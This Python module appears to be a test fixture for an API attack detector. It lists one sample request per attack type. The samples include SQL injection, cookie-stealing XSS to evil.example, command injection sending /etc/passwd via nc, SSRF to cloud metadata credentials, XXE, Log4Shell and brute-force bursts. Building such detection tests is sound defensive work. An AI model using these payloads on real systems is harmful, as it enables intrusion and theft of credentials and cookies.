"""Attacks that are found for certain, one for each kind, as requests in our own format."""

from collections.abc import Callable, Iterable
from typing import Any, Final
from urllib.parse import quote

from apisentinel.records.taxonomy import AttackType

Request = dict[str, Any]

BURST: Final = 80
"""Requests of an attack that is a behaviour: well beyond what the detectors need."""

_T = AttackType


def _search(text: str) -> tuple[Request, ...]:
    return ({"method": "GET", "url": f"/search?q={quote(text, safe='')}", "status": 200},)


def _xml(body: str) -> tuple[Request, ...]:
    return (
        {
            "method": "POST",
            "url": "/items",
            "status": 200,
            "request_headers": {"content-type": "application/xml"},
            "request_body": body,
        },
    )


def _burst(make: Callable[[int], Request]) -> tuple[Request, ...]:
    return tuple(make(number) for number in range(BURST))


def _get(url: str, status: int) -> Request:
    return {"method": "GET", "url": url, "status": status}


def _login(user: str) -> Request:
    return {"method": "POST", "url": "/login", "status": 401, "user_id": user}


_PROBES: Final = (".env", ".git/config", "wp-login.php", "backup.sql")

ATTACKS: Final[dict[AttackType, Iterable[Request]]] = {
    _T.SQLI: _search("1' UNION SELECT username, password FROM users-- "),
    _T.NOSQLI: _search('{"$where": "sleep(5000) || true"}'),
    _T.XSS: _search("<script>document.location='//evil.example/'+document.cookie</script>"),
    _T.CMDI: _search("; cat /etc/passwd | nc evil.example 4444"),
    _T.TRAVERSAL: _search("../../../../../etc/passwd"),
    _T.SSTI: _search("{{''.__class__.__mro__[1].__subclasses__()}}"),
    _T.SSRF: _search("http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    _T.XXE: _xml(
        '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
    ),
    _T.LDAPI: _search("*)(uid=*))(|(uid=*"),
    _T.CRLF: _search("x\r\nSet-Cookie: admin=1\r\n\r\n<html>"),
    _T.LOG4SHELL: _search("${jndi:ldap://evil.example/a}"),
    _T.DESERIALIZATION: _search(
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg"
    ),
    _T.RFI: _search("http://evil.example/shell.php?"),
    _T.BRUTE_FORCE: _burst(lambda _: _login("victim")),
    _T.CREDENTIAL_STUFFING: _burst(lambda n: _login(f"user{n}")),
    _T.ENUMERATION: _burst(
        lambda n: _get(f"/api/orders/{1_000 + n}", 404 if n % 5 else 200),
    ),
    _T.SCANNING: _burst(lambda n: _get(f"/{_PROBES[n % len(_PROBES)]}{n}", 404)),
}
"""Kind of attack → its requests, in order."""
